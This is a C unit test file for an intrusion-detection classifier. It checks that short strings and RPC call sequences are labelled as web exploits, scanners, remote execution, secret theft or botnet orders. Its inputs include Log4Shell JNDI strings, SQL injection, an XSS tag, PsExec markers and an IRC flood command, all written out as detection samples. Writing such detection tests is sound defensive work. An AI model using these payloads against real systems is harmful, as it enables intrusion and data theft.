/* SPDX-License-Identifier: Apache-2.0 */
/* Words and calls that mean an attack, and such that do not. */
#include "detect/sign_said.h"
#include "test.h"

#include <string.h>

static enum sign_said web(const char *text)
{
    return words_to_web(span_of((const uint8_t *)text, strlen(text)));
}

static enum sign_said windows(const char *text)
{
    return words_to_windows(span_of((const uint8_t *)text, strlen(text)));
}

static void requests(void **state)
{
    (void)state;
    assert_int_equal(web("get /?a=${jndi:ldap://x/a} http/1.1"), SIGN_SAID_WEB_EXPLOIT);
    assert_int_equal(web("get /?a=${${lower:j}ndi:x}"), SIGN_SAID_WEB_EXPLOIT);
    assert_int_equal(web("get /?id=1 and sleep(5)--"), SIGN_SAID_WEB_EXPLOIT);
    assert_int_equal(web("get /?n=<script>alert(1)</script>"), SIGN_SAID_WEB_EXPLOIT);
    assert_int_equal(web("user-agent: sqlmap/1.7"), SIGN_SAID_WEB_SCANNER);
    assert_int_equal(web("post /wsman?psversion=5.1 http/1.1"), SIGN_SAID_RPC_RUN);
    assert_int_equal(web("post /wsman/subscriptionmanager/wec http/1.1"),
                     SIGN_SAID_NOTHING);
    assert_int_equal(web("get /index.html?sleep=5 http/1.1"), SIGN_SAID_NOTHING);
}

static void names_for_windows(void **state)
{
    (void)state;
    assert_int_equal(windows("x g$bckupkey_preferred"), SIGN_SAID_RPC_SECRETS);
    assert_int_equal(windows("psexesvc.exe"), SIGN_SAID_RPC_RUN);
    assert_int_equal(windows("%comspec% /q /c"), SIGN_SAID_RPC_RUN);
    assert_int_equal(windows("report.docx"), SIGN_SAID_NOTHING);
}

static void a_channel(void **state)
{
    static const char order[] = "privmsg #c :!udpflood 192.0.2.1 80";
    static const char talk[] = "privmsg #c :has anybody scanned the page?";

    (void)state;
    assert_int_equal(words_to_bot(span_of((const uint8_t *)order, sizeof order - 1)),
                     SIGN_SAID_BOT_ORDER);
    assert_int_equal(words_to_bot(span_of((const uint8_t *)talk, sizeof talk - 1)),
                     SIGN_SAID_NOTHING);
}

/* A request with that number of the call. */
static enum sign_said call(struct rpc_reader *r, uint16_t number)
{
    uint8_t head[RPC_HEAD] = {5, 0, 0, 3, 16};

    head[22] = (uint8_t)number;
    return rpc_read(r, span_of(head, sizeof head), 1);
}

static void bind_to_another(struct rpc_reader *r)
{
    uint8_t head[RPC_HEAD] = {5, 0, 11, 3, 16};

    assert_int_equal(rpc_read(r, span_of(head, sizeof head), 1), SIGN_SAID_NOTHING);
}

static void secrets_fetched_in_a_row_of_calls(void **state)
{
    static const uint16_t calls[] = {0, 16, 12, 0};
    struct rpc_reader r = {0};

    (void)state;
    for (unsigned i = 0; i < 4; i++)
        assert_int_equal(call(&r, calls[i]), SIGN_SAID_NOTHING);
    assert_int_equal(call(&r, 3), SIGN_SAID_RPC_SECRETS);
    /* Once more, after something else. */
    assert_int_equal(call(&r, 16), SIGN_SAID_NOTHING);
    assert_int_equal(call(&r, 5), SIGN_SAID_NOTHING);
    assert_int_equal(call(&r, 12), SIGN_SAID_NOTHING);
    assert_int_equal(call(&r, 3), SIGN_SAID_NOTHING);
}

static void the_same_calls_of_a_named_interface(void **state)
{
    static const uint16_t calls[] = {16, 12, 3};
    struct rpc_reader r = {0};

    (void)state;
    bind_to_another(&r);
    for (unsigned i = 0; i < 3; i++)
        assert_int_equal(call(&r, calls[i]), SIGN_SAID_NOTHING);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(requests),
        cmocka_unit_test(names_for_windows),
        cmocka_unit_test(a_channel),
        cmocka_unit_test(secrets_fetched_in_a_row_of_calls),
        cmocka_unit_test(the_same_calls_of_a_named_interface),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
